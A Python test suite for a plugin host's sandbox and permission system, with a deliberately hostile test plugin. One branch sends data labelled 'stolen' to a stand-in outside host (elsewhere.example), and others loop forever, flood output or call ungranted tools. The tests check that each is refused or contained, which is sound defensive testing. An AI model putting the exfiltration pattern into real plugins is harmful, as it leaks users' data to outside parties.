"""Workers and plugins in one host, with real parts: the sandbox, the journal, a real gateway.

Every bad input is visible in history or as an alert, and none of them hangs a worker.
"""

import asyncio
import contextlib
import json
import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.runtime.heard import Heard
from tests.runtime.hosts import quiet_host

from yoi.control.client import call
from yoi.errors import PermissionDenied
from yoi.host import Host
from yoi.limits import LIMITS
from yoi.packages import EnabledEntry, Store, add_to_store, read_package
from yoi.packages.edits import write_enablement
from yoi.permissions import Permission, PermissionKind, PermissionSet
from yoi.protocol.events import RunEnd
from yoi.runtime.workspace import operator_file
from yoi.testing.gateway import FakeGateway, GatewayPeer
from yoi.types import InstanceName
from yoi.workers.items import public_entry

PLUGIN = """
from yoi_pdk import DeniedEvent, Notify, Plugin, Send, SendFailedEvent, ToolResult

class Desk(Plugin):
    def on_text(self, event, ctx):
        worker, _, text = event.text.partition(" ")
        if text.startswith("storm"):
            return [Notify(worker, f"{text} {n}", id=f"{text}-{n}") for n in range(60)]
        return Notify(worker, text)

    def on_event(self, event, ctx):
        if isinstance(event, (DeniedEvent, SendFailedEvent)):
            return Send(f"told {event.code}", session="current")

    def on_tool(self, call, ctx):
        do = call.input["do"]
        if do == "loop":
            while True:
                pass
        if do == "raise":
            raise ValueError("no such thing")
        if do == "elsewhere":
            return ToolResult("sent", commands=Send("stolen", url="wss://elsewhere.example/feed"))
        if do == "malformed":
            return ToolResult("sent", commands=[Send("a", id="x", connection="gateway"),
                                                Send("b", id="x", connection="gateway")])
        if do == "flood":
            return ToolResult("much", "x" * 900_000)
        if do == "notify":
            who = ["stranger", "other", "triage"]
            return ToolResult("asked", commands=[Notify(name, "from a tool") for name in who])
        return ToolResult("sent", commands=Send(f"answer {do}", connection="gateway"))
"""

MANIFEST = """
schema_version = 1
id = "desk"
name = "Desk"
version = "0.1.0"
permissions = [{{ kind = "notify", name = "triage" }}, {{ kind = "notify", name = "other" }}]

[runtime]
kind = "python"
runner = "1"
entry = "plugin:Desk"

[[services]]
name = "chat"
description = "talks"

[[ingresses]]
name = "events"
description = "frames"

[[connections]]
name = "gateway"
ingress = "events"
url = "{url}"
deliver = ["text", "denied", "send_failed"]

[[tools]]
name = "act"
description = "Do what is asked"

[tools.input_schema]
type = "object"
required = ["do"]
properties = {{ do = {{ type = "string" }} }}

[[tools]]
name = "secret_tool"
description = "Nobody grants this"
input_schema = {{ type = "object" }}
"""

WORKER = """
[[workers]]
name = "triage"
model = "scripted"
tools = [{ plugin = "desk", tool = "act", approval = "auto" }]
notify = [{ plugin = "desk", start_run = true, per_minute = 50 }]
script = [
  { when = "SEND", call = "act", arguments = { do = "well" } },
  { when = "ELSEWHERE", call = "act", arguments = { do = "elsewhere" } },
  { when = "LOOP", call = "act", arguments = { do = "loop" } },
  { when = "RAISE", call = "act", arguments = { do = "raise" } },
  { when = "MALFORMED", call = "act", arguments = { do = "malformed" } },
  { when = "FLOOD", call = "act", arguments = { do = "flood" } },
  { when = "TELL", call = "act", arguments = { do = "notify" } },
  { when = "UNGRANTED", call = "secret_tool" },
  { say = "heard" },
]
"""


@dataclass
class World:
    """A running host with the plugin, its worker, and the gateway's side of the connection."""

    folder: Path
    runtime: Host
    diagnostics: Heard
    peer: GatewayPeer

    async def run(self, text: str) -> list[dict[str, Any]]:
        """Say `text` on the gateway's side to the worker; return what the run added to history."""
        worker = self.runtime.workers.worker_set.worker("triage")
        before = worker.status().items
        ended = asyncio.Event()
        worker.bus.listen(lambda event: ended.set() if isinstance(event, RunEnd) else None)
        await self.peer.send(f"triage {text}")
        async with asyncio.timeout(20):
            await ended.wait()
        return [public_entry(item) for item in await worker.history(before, 500)]

    def service(self) -> dict[str, Any]:
        return msgspec.to_builtins(self.runtime.services["desk"].status())

    async def ask(self, method: str, **params: Any) -> Any:
        return await asyncio.to_thread(call, self.folder, method, **params)


def result_of(items: list[dict[str, Any]]) -> dict[str, Any]:
    """Return the one tool result of a run that ended well all the same (nothing hangs)."""
    assert items[-1]["type"] == "run_end"
    assert items[-1]["result"] == "finished"
    (result,) = [item for item in items if item["type"] == "tool_result"]
    return result


def enable(folder: Path, url: str, workers: str, without: tuple[Permission, ...] = ()) -> None:
    source = folder / "source"
    source.mkdir(exist_ok=True)
    (source / "plugin.toml").write_text(MANIFEST.format(url=url))
    (source / "plugin.py").write_text(PLUGIN)
    if not Store.project(folder).path.exists():
        add_to_store(source, Store.project(folder))
    package = read_package(next(Store.project(folder).path.iterdir()), "project")
    asked = package.manifest.requested
    never = (Permission(PermissionKind.TOOL, "secret_tool"), *without)
    write_enablement(
        operator_file(folder),
        EnabledEntry(
            reference="project:desk",
            name=InstanceName("desk"),
            version=package.manifest.version,
            digest=package.digest,
            granted=PermissionSet.of(
                tuple(one for one in asked.permissions if one not in never), asked.websocket
            ),
        ),
    )
    text = operator_file(folder).read_text().partition("\n[[workers]]")[0]
    operator_file(folder).write_text(text + "\n" + workers)


@contextlib.asynccontextmanager
async def host(folder: Path) -> AsyncIterator[tuple[Host, Heard]]:
    heard = Heard()
    limits = replace(LIMITS, restart_first_ms=1, restart_max_ms=20, tool_ms=500)
    async with quiet_host(folder, heard.append, limits) as runtime:
        yield runtime, heard


@pytest.fixture
async def gateway() -> AsyncIterator[FakeGateway]:
    async with FakeGateway() as made:
        yield made


@pytest.fixture
async def world(tmp_path, gateway, compiled_runner) -> AsyncIterator[World]:
    enable(tmp_path, gateway.url, WORKER)
    async with host(tmp_path) as (runtime, heard):
        yield World(tmp_path, runtime, heard, await gateway.accept())


async def test_a_message_is_heard_answered_and_survives_a_restart(world):
    """T1-T3: what came in stands in history with where it came from, before the run."""
    items = await world.run("please SEND")
    assert items[0]["type"] == "system_item"
    provenance = items[0]["provenance"]
    assert provenance["plugin_id"] == "project:desk"
    assert provenance["digest"] == world.service()["digest"]
    assert result_of(items)["outcome"] == "returned"
    assert result_of(items)["origin"]["tool"] == "act"
    assert await world.peer.receive() == "answer well"
    assert stat.S_IMODE((world.folder / ".yoi" / "journal.db").stat().st_mode) == 0o600


async def test_a_history_survives_a_restart_of_the_host(tmp_path, gateway, compiled_runner):
    """T1: and the worker hears again as soon as its plugin does."""
    enable(tmp_path, gateway.url, WORKER)
    heads = []
    for _ in range(2):
        async with host(tmp_path) as (runtime, heard):
            world = World(tmp_path, runtime, heard, await gateway.accept())
            worker = runtime.workers.worker_set.worker("triage")
            heads.append(worker.status().items)
            await world.run("hello")
            heads.append(worker.status().items)
    assert heads[0] == 0 < heads[1] == heads[2] < heads[3]


async def test_a_prompt_that_makes_the_plugin_send_elsewhere_changes_nothing(world):
    """P4, S7: the model reads that it was refused, and so does the operator."""
    result = result_of(await world.run("ELSEWHERE"))
    refused = json.loads(result["output"])["refused"]
    assert [(one["kind"], one["code"]) for one in refused] == [
        ("websocket_send", "denied.not_requested")
    ]
    assert "denied.not_requested" in world.diagnostics.codes
    (command,) = [
        one for one in world.service()["commands"] if one["source_event_id"].startswith("tool.")
    ]
    assert command["status"] == "denied"
    assert result_of(await world.run("SEND"))["outcome"] == "returned"


async def test_a_tool_that_was_not_granted_is_not_there(world):
    """P4: neither for a model nor for the operator's own call."""
    result = result_of(await world.run("UNGRANTED"))
    assert result["outcome"] == "refused"
    with pytest.raises(PermissionDenied) as caught:
        await world.runtime.services["desk"].call_tool("secret_tool", {})
    assert caught.value.code == "denied.not_granted"


async def test_a_tool_that_never_ends_is_ended_and_the_next_call_works(world):
    """S8: the instance is lost, the worker is not."""
    result = result_of(await world.run("LOOP"))
    assert result["outcome"] == "failed"
    assert "sandbox.deadline" in result["output"]
    await world.diagnostics.until(
        lambda: [d for d in world.diagnostics if "is running" in d.message][1:]
    )
    assert result_of(await world.run("SEND"))["outcome"] == "returned"


@pytest.mark.parametrize(
    ("say", "code"), [("RAISE", "sandbox.exception"), ("MALFORMED", "sandbox.exception")]
)
async def test_a_tool_that_fails_is_a_failed_result(world, say, code):
    result = result_of(await world.run(say))
    assert result["outcome"] == "failed"
    assert code in result["output"]


async def test_enormous_output_is_cut_visibly(world):
    result = result_of(await world.run("FLOOD"))
    assert result["cut"] is True
    assert len(result["output"].encode()) <= LIMITS.tool_output_bytes


async def test_a_tool_cannot_notify_whom_nobody_granted(world):
    """And the caller reads it, whether the gate refused or the worker's own rule (`other`)."""
    items = await world.run("TELL")
    refused = json.loads(result_of(items)["output"])["refused"]
    assert [one["code"] for one in refused] == ["denied.not_requested", "denied.not_granted"]
    assert {one["kind"] for one in refused} == {"notify"}
    assert [item["text"] for item in items if item["type"] == "system_item"][1:] == ["from a tool"]


async def test_a_storm_is_cut_told_once_and_silences_nobody(world):
    """T3: the rate holds, the plugin hears it, one alert, and a person still gets through."""
    await world.peer.send("triage storm")
    told = [await asyncio.wait_for(world.peer.receive(), 20) for _ in range(10)]
    assert told == ["told worker.notify_rate"] * 10
    worker = world.runtime.workers.worker_set.worker("triage")
    alerts = [one for one in worker.status().alerts if one.source == "notify:desk"]
    assert len(alerts) == 1
    ended = asyncio.Event()
    worker.bus.listen(lambda event: ended.set() if isinstance(event, RunEnd) else None)
    seq = await worker.send("a person")
    taken: list[int] = []
    async with asyncio.timeout(20):
        while seq not in taken:
            await ended.wait()
            ended.clear()
            items = [public_entry(one) for one in await worker.history(0, 500)]
            taken = [n for one in items if one["type"] == "run_start" for n in one["takes"]]
    assert sum(one["type"] == "system_item" for one in items) == 50
    counters = world.service()["counters"]
    assert counters["commands_failed"] == 10


@pytest.mark.parametrize(
    ("worker", "code"), [("other", "denied.not_granted"), ("stranger", "denied.not_requested")]
)
async def test_a_plugin_hears_that_it_may_not_notify(world, worker, code):
    """Two keys and the worker's own rule: `other` is granted, but no worker has a rule for it."""
    await world.peer.send(f"{worker} hello")
    assert await asyncio.wait_for(world.peer.receive(), 20) == f"told {code}"
    assert world.runtime.workers.worker_set.worker("triage").status().items == 0
    (command,) = [one for one in world.service()["commands"] if one["kind"] == "notify"]
    assert (command["status"], command["code"]) == ("denied", code)


async def test_a_grant_that_is_taken_away_is_gone_with_the_reload(world, gateway):
    """P4: the worker's rule alone is not enough, on the very connection that was there before."""
    gone = Permission(PermissionKind.NOTIFY, "triage")
    enable(world.folder, gateway.url, WORKER, without=(gone,))
    await world.ask("host.reload")
    await world.peer.send("triage hello")
    assert await asyncio.wait_for(world.peer.receive(), 20) == "told denied.not_granted"
    assert world.runtime.workers.worker_set.worker("triage").status().items == 0


async def test_one_faulty_table_keeps_one_worker_down(world, gateway):
    """And what is written twice runs not at all; the service is left alone."""
    twice = '\n[[workers]]\nname = "twin"\nmodel = "scripted"\nscript = [{ say = "x" }]\n'
    faulty = '\n[[workers]]\nname = "bad"\nmodel = "scripted"\ncolour = "red"\n'
    keyless = '\n[[workers]]\nname = "keyless"\nmodel = "openai:m"\napi_key = "gone"\n'
    enable(world.folder, gateway.url, WORKER + twice + twice + faulty + keyless)
    applied = await world.ask("host.reload")
    assert applied["restarted"] == []
    listed = {one["name"]: one["status"] for one in await world.ask("worker.list")}
    assert listed.pop("triage") != "failed"
    assert listed == dict.fromkeys(("bad", "keyless", "twin"), "failed")
    scopes = {one.scope: one.code for one in world.diagnostics if one.scope.startswith("worker:")}
    assert scopes == {
        "worker:twin": "worker.duplicate",
        "worker:bad": "worker.profile",
        "worker:keyless": "worker.profile",
    }
    assert result_of(await world.run("SEND"))["outcome"] == "returned"


async def test_a_stopped_plugin_is_a_failed_call_or_an_alert_never_a_wait(world):
    """A person's message still gets an answer while the tool's plugin is away."""
    await world.ask("service.stop", name="desk")
    worker = world.runtime.workers.worker_set.worker("triage")
    ended = asyncio.Event()
    worker.bus.listen(lambda event: ended.set() if isinstance(event, RunEnd) else None)
    await worker.send("SEND")
    await asyncio.wait_for(ended.wait(), 20)
    items = [public_entry(one) for one in await worker.history(0, 500)]
    assert result_of(items)["outcome"] == "refused"
    assert any("offers no tool act" in one.message for one in worker.status().alerts)
